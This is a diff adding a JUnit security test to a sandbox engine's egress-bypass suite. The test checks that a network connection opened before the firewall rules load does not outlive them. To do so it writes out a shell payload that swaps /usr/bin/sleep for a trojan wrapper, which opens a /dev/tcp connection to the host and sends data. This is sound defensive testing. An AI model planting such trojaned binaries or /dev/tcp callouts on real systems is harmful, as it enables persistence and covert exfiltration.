@@ -9,7 +9,13 @@ import dev.sandboxjobs.engine.SandboxEngine;
 import dev.sandboxjobs.engine.SandboxOptions;
 import dev.sandboxjobs.engine.testing.RequiresDocker;
 import dev.sandboxjobs.engine.testing.TestEngines;
+import dev.sandboxjobs.engine.SandboxSnapshot;
+import dev.sandboxjobs.engine.SnapshotOptions;
+import java.io.IOException;
 import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.nio.file.Path;
 import java.util.List;
 import org.junit.jupiter.api.AfterAll;
@@ -156,6 +162,61 @@ class EgressBypassTest {
             assertThat(e.host()).isEqualTo(registryAddress);
             assertThat(e.allowed()).isFalse();
         });
+    }
+
+    @Test
+    void aConnectionOpenedBeforeTheRulesDiesWithThem() throws Exception {
+        // A snapshot made by untrusted root code can replace what the container runs at start (its
+        // "sleep"), which runs before the firewall helper; a connection it opens to the host then must
+        // not outlive the rules' arrival.
+        try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getByName("0.0.0.0"))) {
+            List<String> received = new CopyOnWriteArrayList<>();
+            Thread reader = new Thread(() -> {
+                try {
+                    while (!listener.isClosed()) {
+                        Socket s = listener.accept();
+                        Thread t = new Thread(() -> readLines(s, received));
+                        t.setDaemon(true);
+                        t.start();
+                    }
+                } catch (IOException closed) {
+                    // the test is over
+                }
+            });
+            reader.setDaemon(true);
+            reader.start();
+            Sandbox maker = engine.getSandbox("trojan-maker", SandboxOptions.builder().egress(EgressPolicy.none()).user("root").build());
+            SandboxSnapshot trojan;
+            try {
+                ExecResult plant = maker.exec("mv /usr/bin/sleep /usr/bin/sleep.real && printf '%s\\n' '#!/bin/bash'"
+                        + " 'gw=${HTTP_PROXY#*//}; gw=${gw%%:*}'"
+                        + " '( exec 3<>/dev/tcp/$gw/" + listener.getLocalPort() + " && echo early >&3 && /usr/bin/sleep.real 3"
+                        + " && echo late >&3 ) </dev/null >/dev/null 2>&1 &'"
+                        + " 'exec /usr/bin/sleep.real \"$@\"' > /usr/bin/sleep && chmod 755 /usr/bin/sleep");
+                assertThat(plant.success()).as(plant.stderr()).isTrue();
+                trojan = maker.snapshot(SnapshotOptions.named("trojan"));
+            } finally {
+                maker.destroy();
+            }
+            Sandbox victimOfTheSnapshot = engine.getSandbox("trojan-run", SandboxOptions.builder().fromSnapshot(trojan).build());
+            try {
+                Thread.sleep(6000);
+                assertThat(received).as("what the code run before the rules sent to the host").doesNotContain("late");
+            } finally {
+                victimOfTheSnapshot.destroy();
+                engine.deleteSnapshot(trojan.id());
+            }
+        }
+    }
+
+    private static void readLines(Socket s, List<String> into) {
+        try (s; var in = new java.io.BufferedReader(new java.io.InputStreamReader(s.getInputStream(), java.nio.charset.StandardCharsets.UTF_8))) {
+            for (String line; (line = in.readLine()) != null; ) {
+                into.add(line);
+            }
+        } catch (IOException reset) {
+            into.add("reset");
+        }
     }
 
     private static String attackerAddress() {
